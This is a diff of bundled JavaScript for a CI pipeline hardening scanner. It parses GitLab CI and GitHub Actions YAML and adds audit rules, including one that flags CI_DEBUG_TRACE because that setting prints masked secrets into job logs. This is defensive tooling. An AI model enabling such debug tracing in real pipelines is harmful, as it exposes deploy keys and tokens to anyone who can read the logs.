+  const loaded = loadWorkflow(file.path, file.text);
+  if (loaded.kind === "skip") return [];
+  if (loaded.kind === "error") {
+    return [
+      {
+        ruleId: PARSE_ERROR.id,
+        severity: PARSE_ERROR.severity,
+        title: PARSE_ERROR.title,
+        message: `${file.path} could not be checked: ${loaded.message}.`,
+        location: { path: file.path, startLine: loaded.position.line, startColumn: loaded.position.column },
+        key: "yaml"
+      }
+    ];
+  }
+  const workflow = loaded.model;
+  const findings = [...duplicateKeyErrors(workflow), ...expressionErrors(workflow)];
+  for (const audit of githubActionsAudits) {
+    try {
+      findings.push(...audit.run(workflow, options));
+    } catch (error2) {
+      findings.push({
+        ruleId: PARSE_ERROR.id,
+        severity: PARSE_ERROR.severity,
+        title: PARSE_ERROR.title,
+        message: `${audit.rule.id} could not check ${file.path}: ${errorMessage(error2)}.`,
+        location: { path: file.path, startLine: 1, startColumn: 1 },
+        key: `audit:${audit.rule.id}`
+      });
+    }
+  }
+  return findings;
+}
+function duplicateKeyErrors(workflow) {
+  return duplicateKeys(workflow.root, workflow.doc).map(
+    (d) => makeFinding(workflow, PARSE_ERROR, {
+      message: `\`${d.key}\` is defined twice in ${d.path.join(".") || "the document root"}. GitHub rejects this ${workflow.kind}; only the first value was checked.`,
+      span: nodeSpan(workflow, d.keyNode),
+      key: `duplicate:${[...d.path, d.key].join(".")}`
+    })
+  );
+}
+function expressionErrors(workflow) {
+  const findings = [];
+  walkScalars(workflow.root, workflow.doc, (scalar, value, path8) => {
+    if (!value.includes("${{")) return;
+    for (const expression of findExpressions(value)) {
+      const parsed = expression.closed ? parseExpression(expression.body) : void 0;
+      if (parsed?.ok) continue;
+      const reason = parsed ? parsed.error : "the expression is not closed with }}";
+      findings.push(
+        makeFinding(workflow, PARSE_ERROR, {
+          message: `The expression at ${path8.join(".") || "the document root"} does not parse: ${reason}. GitHub will reject this ${workflow.kind}, and it cannot be checked for injection.`,
+          span: spanInScalar(workflow, scalar, value, expression.start, 3),
+          key: `expression:${path8.join(".")}:${expression.body.trim().slice(0, 80)}`
+        })
+      );
+    }
+  });
+  return findings;
+}
+
+// src/checks/hardening/gitlab-ci/config.ts
+import { posix } from "node:path";
+
+// src/checks/hardening/gitlab-ci/located.ts
+var import_yaml6 = __toESM(require_dist(), 1);
+function positionOf(value, offset = value.start) {
+  const { line, col } = value.src.lineCounter.linePos(offset);
+  return { path: value.src.path, line, column: col };
+}
+function get2(map, key) {
+  return map?.kind === "map" ? map.entries.get(key)?.value : void 0;
+}
+function stringValue2(value) {
+  if (value?.kind !== "scalar" || value.value === null) return void 0;
+  return String(value.value);
+}
+function listItems(value, depth = 0) {
+  if (!value) return [];
+  if (value.kind !== "seq") return [value];
+  if (depth > 10) return [];
+  return value.items.flatMap((item) => item.kind === "seq" ? listItems(item, depth + 1) : [item]);
+}
+function withoutKeys(map, keys) {
+  const entries2 = new Map(map.entries);
+  for (const key of keys) entries2.delete(key);
+  return { ...map, entries: entries2 };
+}
+function emptyMap(src, owner) {
+  return { kind: "map", src, start: 0, end: 0, owner, entries: /* @__PURE__ */ new Map() };
+}
+function deepMerge(a, b) {
+  const entries2 = new Map(a.entries);
+  for (const [key, entry] of b.entries) {
+    const existing = entries2.get(key);
+    if (existing && existing.value.kind === "map" && entry.value.kind === "map") {
+      entries2.set(key, { ...entry, value: deepMerge(existing.value, entry.value) });
+    } else {
+      entries2.set(key, entry);
+    }
+  }
+  return { ...b, entries: entries2 };
+}
+function offsetInScalar(scalar, needle, occurrence) {
+  const source = scalar.src.text.slice(scalar.start, scalar.end);
+  let from = 0;
+  for (let i = 0; i <= occurrence; i++) {
+    const index = source.indexOf(needle, from);
+    if (index < 0) return scalar.start;
+    if (i === occurrence) return scalar.start + index;
+    from = index + needle.length;
+  }
+  return scalar.start;
+}
+function positionInScalar(scalar, text, index, needle) {
+  let occurrence = 0;
+  let from = text.indexOf(needle);
+  while (from >= 0 && from < index) {
+    occurrence++;
+    from = text.indexOf(needle, from + needle.length);
+  }
+  return positionOf(scalar, offsetInScalar(scalar, needle, occurrence));
+}
+var YamlLimitError = class extends Error {
+};
+var MAX_FLOW_DEPTH = 128;
+var MAX_INDENT_COLUMNS = 256;
+function nestingProblem(text) {
+  let depth = 0;
+  let lineStart = 0;
+  let indent = 0;
+  let counting = true;
+  for (let i = 0; i < text.length; i++) {
+    const c = text.charCodeAt(i);
+    if (c === 10) {
+      lineStart = i + 1;
+      indent = 0;
+      counting = true;
+      continue;
+    }
+    if (counting) {
+      const indicator = (c === 45 || c === 63 || c === 58) && text.charCodeAt(i + 1) === 32;
+      if (c === 32 || indicator) {
+        if (++indent > MAX_INDENT_COLUMNS) {
+          return { message: `a line is indented more than ${MAX_INDENT_COLUMNS} columns`, offset: lineStart };
+        }
+        continue;
+      }
+      counting = false;
+    }
+    if (c === 91 || c === 123) {
+      if (++depth > MAX_FLOW_DEPTH)
+        return { message: `flow collections nest deeper than ${MAX_FLOW_DEPTH} levels`, offset: i };
+    } else if ((c === 93 || c === 125) && depth > 0) depth--;
+  }
+  return void 0;
+}
+var referenceTag = {
+  tag: "!reference",
+  collection: "seq",
+  nodeClass: import_yaml6.YAMLSeq,
+  resolve: (seq) => seq
+};
+function parseCiFile(path8, text) {
+  const lineCounter = new import_yaml6.LineCounter();
+  const src = { path: path8, text, lineCounter };
+  const nesting = nestingProblem(text);
+  if (nesting) {
+    const before = text.slice(0, nesting.offset);
+    const line = before.split("\n").length;
+    const column = nesting.offset - before.lastIndexOf("\n");
+    return { src, error: { message: `refused to parse: ${nesting.message}`, position: { path: path8, line, column } } };
+  }
+  let documents;
+  try {
+    documents = (0, import_yaml6.parseAllDocuments)(text, {
+      lineCounter,
+      prettyErrors: false,
+      uniqueKeys: false,
+      customTags: [referenceTag]
+    });
+  } catch (error2) {
+    return { src, error: { message: `YAML parser failed: ${String(error2)}`, position: { path: path8, line: 1, column: 1 } } };
+  }
+  if (!Array.isArray(documents)) documents = [];
+  for (const doc2 of documents) {
+    const first = doc2.errors[0];
+    if (first) {
+      const { line, col } = lineCounter.linePos(first.pos[0]);
+      const message = first.message.split("\n", 1)[0] ?? first.message;
+      return { src, error: { message, position: { path: path8, line, column: col } } };
+    }
+  }
+  try {
+    const converter = new Converter(src);
+    const values = documents.map((doc2) => converter.document(doc2));
+    const first = values[0];
+    if (values.length >= 2 && first?.kind === "map" && first.entries.size === 1 && first.entries.has("spec")) {
+      return { src, header: first, root: values[1] };
+    }
+    if (values.length > 1) {
+      const second = documents[1];
+      const offset = second?.range[0] ?? 0;
+      const { line, col } = lineCounter.linePos(offset);
+      return {
+        src,
+        error: {
+          message: "GitLab reads one configuration document, optionally after a `spec:` header document",
+          position: { path: path8, line, column: col }
+        }
+      };
+    }
+    return { src, root: first };
+  } catch (error2) {
+    if (error2 instanceof YamlLimitError) {
+      return { src, error: { message: error2.message, position: { path: path8, line: 1, column: 1 } } };
+    }
+    throw error2;
+  }
+}
+function plainString(raw) {
+  if (typeof raw === "string") return raw;
+  if (typeof raw === "number" || typeof raw === "boolean" || typeof raw === "bigint") return raw.toString();
+  return void 0;
+}
+var Converter = class {
+  constructor(src) {
+    this.src = src;
+  }
+  src;
+  memo = /* @__PURE__ */ new Map();
+  aliases = 0;
+  doc;
+  document(doc2) {
+    this.doc = doc2;
+    const contents = doc2.contents;
+    if (!contents) return void 0;
+    if ((0, import_yaml6.isMap)(contents)) {
+      const map = this.mapNode(contents, "", true);
+      return map;
+    }
+    return this.node(contents, "");
+  }
+  node(node, owner) {
+    if ((0, import_yaml6.isAlias)(node)) {
+      if (++this.aliases > MAX_YAML_ALIAS_COUNT) {
+        throw new YamlLimitError(`more than ${MAX_YAML_ALIAS_COUNT} YAML aliases; refusing to expand them`);
+      }
+      const target = this.doc ? node.resolve(this.doc) : void 0;
+      if (!target) return this.nullAt(node.range?.[0] ?? 0, owner);
+      return this.node(target, owner);
+    }
+    const cached = this.memo.get(node);
+    if (cached) return cached;
+    let value;
+    if ((0, import_yaml6.isMap)(node)) value = this.mapNode(node, owner, false);
+    else if ((0, import_yaml6.isSeq)(node)) value = this.seqNode(node, owner);
+    else if ((0, import_yaml6.isScalar)(node)) {
+      const raw = node.value;
+      const scalarValue = typeof raw === "string" || typeof raw === "number" || typeof raw === "boolean" ? raw : plainString(raw) ?? null;
+      value = {
+        kind: "scalar",
+        src: this.src,
+        start: node.range?.[0] ?? 0,
+        end: node.range?.[1] ?? 0,
+        owner,
+        value: scalarValue
+      };
+    } else value = this.nullAt(0, owner);
+    this.memo.set(node, value);
+    return value;
+  }
+  nullAt(offset, owner) {
+    return { kind: "scalar", src: this.src, start: offset, end: offset, owner, value: null };
+  }
+  seqNode(node, owner) {
+    const items2 = node.items.map((item) => this.node(item, owner));
+    const start = node.range?.[0] ?? 0;
+    const end = node.range?.[1] ?? start;
+    if (node.tag === "!reference") {
+      const tagAt = this.src.text.lastIndexOf("!reference", start);
+      const lineStart = this.src.text.lastIndexOf("\n", start - 1);
+      const refStart = tagAt > lineStart ? tagAt : start;
+      const path8 = items2.map((item) => item.kind === "scalar" && item.value !== null ? String(item.value) : "");
+      return {
+        kind: "ref",
+        src: this.src,
+        start: refStart,
+        end,
+        owner,
+        path: path8,
+        valid: path8.length > 0 && path8.every(Boolean)
+      };
+    }
+    return { kind: "seq", src: this.src, start, end, owner, items: items2 };
+  }
+  /** A map, with YAML 1.1 merge keys (`<<: *anchor`) applied: explicit keys win over merged ones. */
+  mapNode(node, owner, topLevel) {
+    const entries2 = /* @__PURE__ */ new Map();
+    const merged = /* @__PURE__ */ new Map();
+    for (const pair2 of node.items) {
+      if (!(0, import_yaml6.isPair)(pair2)) continue;
+      const keyNode = pair2.key;
+      const key = (0, import_yaml6.isScalar)(keyNode) ? plainString(keyNode.value) : void 0;
+      if (key === void 0) continue;
+      const keyStart = (0, import_yaml6.isScalar)(keyNode) ? keyNode.range?.[0] ?? 0 : 0;
+      const childOwner = topLevel ? key : owner;
+      if (key === "<<" && (0, import_yaml6.isScalar)(keyNode) && keyNode.type === "PLAIN") {
+        const sources = (0, import_yaml6.isSeq)(pair2.value) ? pair2.value.items : [pair2.value];
+        for (const source of sources) {
+          const value2 = this.node(source, childOwner);
+          if (value2.kind !== "map") continue;
+          for (const [k, entry] of value2.entries) if (!merged.has(k)) merged.set(k, entry);
+        }
+        continue;
+      }
+      const value = pair2.value == null ? this.nullAt(keyStart, childOwner) : this.node(pair2.value, childOwner);
+      entries2.set(key, { key, keyStart, value });
+    }
+    for (const [k, entry] of merged) if (!entries2.has(k)) entries2.set(k, entry);
+    const start = node.range?.[0] ?? 0;
+    return { kind: "map", src: this.src, start, end: node.range?.[1] ?? start, owner, entries: entries2 };
+  }
+};
+
+// src/checks/hardening/gitlab-ci/config.ts
+var MAX_INCLUDES = 150;
+var MAX_INCLUDED_BYTES = 20 * 1024 * 1024;
+var MAX_EXTENDS_DEPTH = 11;
+var MAX_REFERENCE_DEPTH = 10;
+var MAX_RESOLVE_STEPS = 1e6;
+var UNRESOLVED_RULE = "gitlab-ci/unresolvable-config";
+var PARSE_ERROR_RULE = "hardening/parse-error";
+var GLOBAL_KEYWORDS = /* @__PURE__ */ new Set([
+  "default",
+  "include",
+  "stages",
+  "variables",
+  "workflow",
+  "spec",
+  "image",
+  "services",
+  "cache",
+  "before_script",
+  "after_script",
+  "types"
+]);
+var DEPRECATED_GLOBAL_DEFAULTS = ["image", "services", "cache", "before_script", "after_script"];
+var DEFAULT_KEYWORDS = [
+  "after_script",
+  "artifacts",
+  "before_script",
+  "cache",
+  "hooks",
+  "id_tokens",
+  "image",
+  "interruptible",
+  "retry",
+  "services",
+  "tags",
+  "timeout"
+];
+function problem(ruleId, message, at, key, object) {
+  return { ruleId, message, position: at, key, ...object ? { object } : {} };
+}
+async function buildModel(mainPath, mainText, tree) {
+  const state = { tree, includes: [], problems: [], headers: /* @__PURE__ */ new Map(), files: [], loaded: 0, bytes: 0 };
+  const root = await loadFile(mainPath, mainText, [mainPath], state);
+  const model = {
+    mainPath,
+    jobs: [],
+    includes: state.includes,
+    problems: state.problems,
+    headers: state.headers,
+    files: state.files,
+    childPipelines: []
+  };
+  const external = state.includes.filter((include) => include.kind !== "local");
+  if (root) model.jobs = resolveJobs(root, state.problems, external);
+  for (const job of model.jobs) collectTriggerIncludes(job, model);
+  return model;
+}
+function collectTriggerIncludes(job, model) {
+  const trigger = get2(job.config, "trigger");
+  if (trigger?.kind !== "map") return;
+  const items2 = listItems(get2(trigger, "include")).filter(
+    (item) => !(item.kind === "map" && item.entries.has("artifact"))
+  );
+  for (const include of includeItems(items2, model.problems)) {
+    if (include.kind !== "local") {
+      model.includes.push(include);
+      continue;
+    }
+    const raw = String(include.location.value ?? "").trim();
+    const path8 = posix.normalize(raw.replace(/^\/+/, ""));
+    if (raw.includes("$") || raw.includes("*") || path8.startsWith("../")) {
+      model.problems.push(
+        problem(
+          UNRESOLVED_RULE,
+          `Child pipeline configuration \`${raw}\` cannot be resolved statically and was not checked.`,
+          positionOf(include.location),
+          `child:${raw}`,
+          job.name
+        )
+      );
+      continue;
+    }
+    model.childPipelines.push({ path: path8, location: include.location, job: job.name });
+  }
+}
+async function loadFile(path8, text, stack, state) {
+  state.files.push(path8);
+  const parsed = parseCiFile(path8, text);
+  if (parsed.error) {
+    state.problems.push(
+      problem(
+        PARSE_ERROR_RULE,
+        `${path8} is not valid GitLab CI YAML: ${parsed.error.message}`,
+        parsed.error.position,
+        "yaml"
+      )
+    );
+    return void 0;
+  }
+  if (parsed.header) state.headers.set(path8, parsed.header);
+  const root = parsed.root;
+  if (root === void 0 || root.kind === "scalar" && root.value === null) return emptyMap(parsed.src, "");
+  if (root.kind !== "map") {
+    state.problems.push(
+      problem(PARSE_ERROR_RULE, `${path8} must be a mapping of jobs and global keywords`, positionOf(root), "shape")
+    );
+    return void 0;
+  }
+  let merged = emptyMap(parsed.src, "");
+  for (const include of includeRefs(get2(root, "include"), state.problems)) {
+    state.includes.push(include);
+    if (include.kind !== "local") continue;
+    for (const target of await localTargets(include, state)) {
+      const included = await loadIncluded(include, target, stack, state);
+      if (included) merged = deepMerge(merged, included);
+    }
+  }
+  return deepMerge(merged, withoutKeys(root, ["include"]));
+}
+async function loadIncluded(include, target, stack, state) {
+  const at = positionOf(include.location);
+  if (stack.includes(target)) {
+    const chain = [...stack, target].join(" \u2192 ");
+    state.problems.push(
+      problem(
+        UNRESOLVED_RULE,
+        `Include cycle: ${chain}. GitLab rejects this pipeline.`,
+        at,
+        `cycle:${target}`,
+        "include"
+      )
+    );
+    return void 0;
+  }
+  if (state.loaded >= MAX_INCLUDES) {
+    state.problems.push(
+      problem(
+        UNRESOLVED_RULE,
+        `More than ${MAX_INCLUDES} included files; ${target} and later includes were not read.`,
+        at,
+        "too-many",
+        "include"
+      )
+    );
+    return void 0;
+  }
+  const size = await state.tree.size(target);
+  if (size !== void 0 && state.bytes + size > MAX_INCLUDED_BYTES) {
+    state.problems.push(
+      problem(
+        UNRESOLVED_RULE,
+        `Included files exceed ${MAX_INCLUDED_BYTES} bytes; ${target} was not read.`,
+        at,
+        `size:${target}`,
+        "include"
+      )
+    );
+    return void 0;
+  }
+  const bytes = await state.tree.read(target, MAX_FILE_BYTES);
+  if (!bytes) {
+    state.problems.push(
+      problem(
+        UNRESOLVED_RULE,
+        `Included file ${target} does not exist or is not a readable regular file.`,
+        at,
+        `missing:${target}`,
+        "include"
+      )
+    );
+    return void 0;
+  }
+  state.loaded++;
+  state.bytes += bytes.length;
+  return loadFile(target, bytes.toString("utf8"), [...stack, target], state);
+}
+async function localTargets(include, state) {
+  const raw = String(include.location.value ?? "").trim();
+  const at = positionOf(include.location);
+  if (raw.includes("$")) {
+    state.problems.push(
+      problem(
+        UNRESOLVED_RULE,
+        `Local include \`${raw}\` uses a CI/CD variable; it cannot be resolved statically and was not checked.`,
+        at,
+        `variable:${raw}`,
+        "include"
+      )
+    );
+    return [];
+  }
+  const normalized = posix.normalize(raw.replace(/^\/+/, ""));
+  if (normalized.startsWith("../") || normalized === ".." || normalized === "." || posix.isAbsolute(normalized)) {
+    state.problems.push(
+      problem(
+        UNRESOLVED_RULE,
+        `Local include \`${raw}\` points outside the repository.`,
+        at,
+        `outside:${raw}`,
+        "include"
+      )
+    );
+    return [];
+  }
+  if (!normalized.includes("*")) return [normalized];
+  state.list ??= await state.tree.list();
+  const pattern = normalized.split("/").map((segment) => segment !== "**" && segment.includes("**") ? `**/${segment.replace(/\*\*/g, "*")}` : segment).join("/");
+  const matches = state.list.filter((file) => /\.ya?ml$/.test(file) && minimatch(file, pattern, { dot: true }));
+  if (matches.length === 0) {
+    state.problems.push(
+      problem(UNRESOLVED_RULE, `Local include pattern \`${raw}\` matches no file.`, at, `empty:${raw}`, "include")
+    );
+  }
+  return matches;
+}
+function includeRefs(value, problems) {
+  if (!value || value.kind === "scalar" && value.value === null) return [];
+  return includeItems(value.kind === "seq" ? value.items : [value], problems);
+}
+function includeItems(items2, problems) {
+  const refs = [];
+  for (const item of items2) {
+    if (item.kind === "scalar" && typeof item.value === "string") {
+      refs.push({ kind: /^https?:\/\//i.test(item.value.trim()) ? "remote" : "local", location: item });
+      continue;
+    }
+    if (item.kind === "map") {
+      const kind = ["local", "remote", "project", "template", "component"].find((k) => item.entries.has(k));
+      const location2 = kind ? get2(item, kind) : void 0;
+      if (kind && location2?.kind === "scalar" && location2.value !== null) {
+        refs.push({ kind, location: location2, fields: item });
+        continue;
+      }
+    }
+    problems.push(
+      problem(
+        UNRESOLVED_RULE,
+        "This `include` entry is not a form GitLab accepts (local, remote, project, template, component).",
+        positionOf(item),
+        "include-shape",
+        "include"
+      )
+    );
+  }
+  return refs;
+}
+function unknownName(ctx, message, at, key, object) {
+  if (ctx.external.length === 0) return problem(UNRESOLVED_RULE, `${message}.`, at, key, object);
+  const sources = ctx.external.map((include) => `${include.kind}: ${String(include.location.value)}`);
+  return {
+    ...problem(
+      UNRESOLVED_RULE,
+      `${message}; it is probably defined in an include that was not fetched (${sources.slice(0, 3).join(", ")}${sources.length > 3 ? ", \u2026" : ""}), so what it brings in was not checked.`,
+      at,
+      key,
+      object
+    ),
+    severity: "info"
+  };
+}
+function resolveJobs(root, problems, external) {
+  const ctx = { root, problems, extended: /* @__PURE__ */ new Map(), steps: 0, exhausted: false, external };
+  const defaults2 = defaultSettings(root, ctx);
+  const globals = get2(root, "variables");
+  const globalVariables = globals ? resolveReferences(globals, ctx, 0, []) : void 0;
+  const jobs = [];
+  for (const [name, entry] of root.entries) {
+    if (GLOBAL_KEYWORDS.has(name) || name.startsWith(".")) continue;
+    if (entry.value.kind !== "map") continue;
+    const extended = extendedJob(name, ctx);
+    if (!extended) continue;
+    const resolved = resolveReferences(extended, ctx, 0, []);
+    if (resolved.kind !== "map") continue;
+    const config = applyDefaults(resolved, defaults2);
+    jobs.push({ name, config, variables: jobVariables(config, globalVariables) });
+  }
+  return jobs;
+}
+function defaultSettings(root, ctx) {
+  let defaults2;
+  for (const key of DEPRECATED_GLOBAL_DEFAULTS) {
+    const entry = root.entries.get(key);
+    if (!entry) continue;
+    defaults2 ??= { ...root, entries: /* @__PURE__ */ new Map() };
+    defaults2.entries.set(key, entry);
+  }
+  const explicit = get2(root, "default");
+  if (explicit?.kind === "map") defaults2 = defaults2 ? deepMerge(defaults2, explicit) : explicit;
+  if (!defaults2) return void 0;
+  const resolved = resolveReferences(defaults2, ctx, 0, []);
+  return resolved.kind === "map" ? resolved : void 0;
+}
+function applyDefaults(job, defaults2) {
+  if (!defaults2) return job;
+  const inherit = get2(get2(job, "inherit"), "default");
+  if (inherit?.kind === "scalar" && inherit.value === false) return job;
+  const allowed = inherit?.kind === "seq" ? new Set(inherit.items.map((item) => stringValue2(item)).filter(Boolean)) : void 0;
+  const entries2 = new Map(job.entries);
+  for (const key of DEFAULT_KEYWORDS) {
+    const entry = defaults2.entries.get(key);
+    if (!entry || entries2.has(key) || allowed && !allowed.has(key)) continue;
+    entries2.set(key, entry);
+  }
+  return { ...job, entries: entries2 };
+}
+function jobVariables(job, resolvedGlobals) {
+  const variables = /* @__PURE__ */ new Map();
+  const inherit = get2(get2(job, "inherit"), "variables");
+  const inheritAll = !(inherit?.kind === "scalar" && inherit.value === false);
+  const allowed = inherit?.kind === "seq" ? new Set(inherit.items.map((item) => stringValue2(item)).filter(Boolean)) : void 0;
+  if (inheritAll && resolvedGlobals?.kind === "map") {
+    for (const [name, entry] of resolvedGlobals.entries) {
+      if (allowed && !allowed.has(name)) continue;
+      variables.set(name, { name, value: variableValue(entry.value), scope: "global" });
+    }
+  }
+  const own = get2(job, "variables");
+  if (own?.kind === "map") {
+    for (const [name, entry] of own.entries)
+      variables.set(name, { name, value: variableValue(entry.value), scope: "job" });
+  }
+  return variables;
+}
+function variableValue(value) {
+  return value.kind === "map" ? get2(value, "value") ?? value : value;
+}
+function ruleVariables(job) {
+  const rules9 = get2(job, "rules");
+  if (rules9?.kind !== "seq") return [];
+  const out = [];
+  for (const rule35 of listItems(rules9)) {
+    const vars = get2(rule35, "variables");
+    if (vars?.kind !== "map") continue;
+    for (const [name, entry] of vars.entries) out.push({ name, value: variableValue(entry.value), scope: "rule" });
+  }
+  return out;
+}
+function extendedJob(name, ctx, depth = 0, stack = [name]) {
+  const cached = ctx.extended.get(name);
+  if (cached) return cached;
+  const job = get2(ctx.root, name);
+  if (job?.kind !== "map") return void 0;
+  const extendsValue = get2(job, "extends");
+  if (!extendsValue) {
+    ctx.extended.set(name, job);
+    return job;
+  }
+  const parents = extendsValue.kind === "seq" ? extendsValue.items : extendsValue.kind === "scalar" ? [extendsValue] : [];
+  let merged;
+  for (const parentNode of parents) {
+    const parent = stringValue2(parentNode);
+    const at = positionOf(parentNode);
+    if (!parent) continue;
+    if (stack.includes(parent)) {
+      ctx.problems.push(
+        problem(
+          UNRESOLVED_RULE,
+          `\`extends\` cycle: ${[...stack, parent].join(" \u2192 ")}. GitLab rejects this pipeline.`,
+          at,
+          `extends-cycle:${parent}`,
+          name
+        )
+      );
+      continue;
+    }
+    if (depth + 1 > MAX_EXTENDS_DEPTH) {
+      ctx.problems.push(
+        problem(
+          UNRESOLVED_RULE,
+          `\`extends\` nests deeper than ${MAX_EXTENDS_DEPTH} levels at \`${parent}\`; GitLab rejects this pipeline.`,
+          at,
+          `extends-depth:${parent}`,
+          name
+        )
+      );
+      continue;
+    }
+    if (get2(ctx.root, parent)?.kind !== "map") {
+      ctx.problems.push(
+        unknownName(
+          ctx,
+          `\`extends: ${parent}\` names no job or template in this repository`,
+          at,
+          `extends-unknown:${parent}`,
+          name
+        )
+      );
+      continue;
+    }
+    const base = extendedJob(parent, ctx, depth + 1, [...stack, parent]);
+    if (base) merged = merged ? deepMerge(merged, base) : base;
+  }
+  const own = withoutKeys(job, ["extends"]);
+  const result = merged ? deepMerge(withoutKeys(merged, ["extends"]), own) : own;
+  if (depth === 0) ctx.extended.set(name, result);
+  return result;
+}
+function resolveReferences(value, ctx, depth, stack) {
+  if (ctx.exhausted) return value;
+  if (++ctx.steps > MAX_RESOLVE_STEPS) {
+    ctx.exhausted = true;
+    ctx.problems.push(
+      problem(
+        UNRESOLVED_RULE,
+        `The configuration expands to more than ${MAX_RESOLVE_STEPS} values; the rest was not resolved.`,
+        positionOf(value),
+        "too-large"
+      )
+    );
+    return value;
+  }
+  switch (value.kind) {
+    case "scalar":
+      return value;
+    case "seq": {
+      let changed = false;
+      const items2 = value.items.map((item) => {
+        const resolved = resolveReferences(item, ctx, depth, stack);
+        if (resolved !== item) changed = true;
+        return resolved;
+      });
+      return changed ? { ...value, items: items2 } : value;
+    }
+    case "map": {
+      let changed = false;
+      const entries2 = new Map(value.entries);
+      for (const [key, entry] of value.entries) {
+        const resolved = resolveReferences(entry.value, ctx, depth, stack);
+        if (resolved !== entry.value) {
+          changed = true;
+          entries2.set(key, { ...entry, value: resolved });
+        }
+      }
+      return changed ? { ...value, entries: entries2 } : value;
+    }
+    case "ref":
+      return resolveReference(value, ctx, depth, stack);
+  }
+}
+function resolveReference(ref, ctx, depth, stack) {
+  const at = positionOf(ref);
+  const label = `!reference [${ref.path.join(", ")}]`;
+  const nullValue = {
+    kind: "scalar",
+    src: ref.src,
+    start: ref.start,
+    end: ref.start,
+    owner: ref.owner,
+    value: null
+  };
+  const fail2 = (message, key) => {
+    ctx.problems.push(problem(UNRESOLVED_RULE, message, at, key, ref.owner || void 0));
+    return nullValue;
+  };
+  if (!ref.valid) return fail2("A `!reference` tag needs a list of job and key names.", "reference-shape");
+  const id = ref.path.join("\0");
+  if (stack.includes(id)) return fail2(`${label} refers back to itself.`, `reference-cycle:${ref.path.join(".")}`);
+  if (depth >= MAX_REFERENCE_DEPTH) {
+    return fail2(`${label} nests deeper than ${MAX_REFERENCE_DEPTH} levels.`, `reference-depth:${ref.path.join(".")}`);
+  }
+  const [top, ...keys] = ref.path;
+  let target = top ? extendedJob(top, ctx) ?? get2(ctx.root, top) : void 0;
+  for (const key of keys) target = get2(target, key);
+  if (!target) {
+    const key = `reference-unknown:${ref.path.join(".")}`;
+    ctx.problems.push(
+      unknownName(ctx, `${label} points at nothing in this repository`, at, key, ref.owner || void 0)
+    );
+    return nullValue;
+  }
+  return resolveReferences(target, ctx, depth + 1, [...stack, id]);
+}
+
+// src/checks/hardening/gitlab-ci/debug-logging.ts
+var DEBUG = "gitlab-ci/debug-trace";
+var rules = [
+  {
+    id: DEBUG,
+    check: "hardening",
+    title: "Debug tracing enabled in the pipeline file",
+    severity: "high",
+    description: "`CI_DEBUG_TRACE` (job log shows every shell command and every variable) or `CI_DEBUG_SERVICES` (service container logs are added to the job log) is set to true in `variables:` of the file, globally, in a job, a template it extends, or a `rules:` entry. `CI_DEBUG_SERVICES` is reported with medium severity.",
+    rationale: "With debug tracing, the runner prints the value of every CI/CD variable, including masked and protected ones, in the job log. Anyone who can read job logs (on a public project: anyone) reads your deploy keys and tokens. Service logs can hold credentials and connection strings in the same way. Committed to the file, the setting stays on for every pipeline, including merge requests.",
+    fix: 'Remove it from the file. When you need a trace, start one pipeline manually with the variable set in **Run pipeline**, restricted to a branch and a project without production secrets, then delete the log:\n\n```yaml\nvariables:\n  # CI_DEBUG_TRACE: "true"   # removed: prints every secret in the job log\n```',
+    references: [
+      "https://docs.gitlab.com/ci/variables/variables_troubleshooting/#enable-debug-logging",
+      "https://docs.gitlab.com/ci/services/#capturing-service-container-logs"
+    ]
+  }
+];
+function isTrue(value) {
+  return value === true || value === 1 || typeof value === "string" && /^(?:1|t|true)$/i.test(value.trim());
+}
+function auditJob(job) {
+  const hits = [];
+  for (const variable of [...job.variables.values(), ...ruleVariables(job.config)]) {
+    if (variable.name !== "CI_DEBUG_TRACE" && variable.name !== "CI_DEBUG_SERVICES") continue;
+    if (variable.value.kind !== "scalar" || !isTrue(variable.value.value)) continue;
+    const trace = variable.name === "CI_DEBUG_TRACE";
+    hits.push({
+      ruleId: DEBUG,
+      ...trace ? {} : { severity: "medium" },
+      message: trace ? "`CI_DEBUG_TRACE` is true: the job log shows every command and the value of every CI/CD variable, masked secrets included." : "`CI_DEBUG_SERVICES` is true: service container logs, which may hold credentials, are written to the job log.",
+      position: positionOf(variable.value),
+      owner: variable.value.owner,
+      job: job.name,
+      key: `${variable.scope}:${variable.name}`,
+      fix: `Remove \`${variable.name}\` from the file; set it only for a single manual pipeline when you need it.`
+    });
+  }
+  return hits;
+}
+var debugLogging = {
+  rules,
+  audit: (model) => model.jobs.flatMap(auditJob)
+};
+
+// src/checks/hardening/gitlab-ci/images.ts
+function nameScalar(value) {
+  const scalar = value.kind === "map" ? get2(value, "name") : value;
+  return scalar?.kind === "scalar" && typeof scalar.value === "string" ? scalar : void 0;
+}
+function imageUses(job) {
+  const uses = [];
+  const add = (kind, value) => {
+    const scalar = nameScalar(value);
+    if (!scalar) return;
+    const written = String(scalar.value).trim();
+    if (!written) return;
+    uses.push({
+      kind,
+      scalar,
+      written,
+      expanded: expandVariables(written, job),
+      ...value.kind === "map" ? { entry: value } : {}
+    });
+  };
+  const image = get2(job.config, "image");
+  if (image) add("image", image);
+  const services = get2(job.config, "services");
+  if (services?.kind === "seq") for (const service of listItems(services)) add("service", service);
+  return uses;
+}
+function expandVariables(text, job) {
+  let current = text;
+  for (let round = 0; round < 5 && current.includes("$"); round++) {
+    const next = current.replace(
+      /\$\{([A-Za-z_][A-Za-z0-9_]*)\}|\$([A-Za-z_][A-Za-z0-9_]*)/g,
+      (whole, braced, bare) => {
+        const name = String(braced ?? bare);
+        const def = job.variables.get(name);
+        return def?.value.kind === "scalar" && def.value.value !== null ? String(def.value.value) : whole;
+      }
+    );
+    if (next === current) break;
+    current = next;
+  }
+  return current;
+}
+function imageParts(reference) {
+  const [withoutDigest, digest] = reference.split("@", 2);
+  const lastSlash = withoutDigest.lastIndexOf("/");
+  const last = withoutDigest.slice(lastSlash + 1);
+  const colon = last.indexOf(":");
+  return {
+    name: colon >= 0 ? last.slice(0, colon) : last,
+    ...colon >= 0 ? { tag: last.slice(colon + 1) } : {},
+    ...digest ? { digest } : {}
+  };
+}
+function isDigestPinned(reference) {
+  return /@sha256:[0-9a-f]{64}$/i.test(reference.trim()) || /@sha512:[0-9a-f]{128}$/i.test(reference.trim());
+}
+
+// src/checks/hardening/gitlab-ci/docker-in-docker.ts
+var DIND = "gitlab-ci/docker-in-docker";
+var NO_TLS = "gitlab-ci/docker-daemon-without-tls";
+var rules2 = [
+  {
+    id: DIND,
+    check: "hardening",
+    title: "Docker-in-Docker service needs a privileged runner",
+    severity: "high",
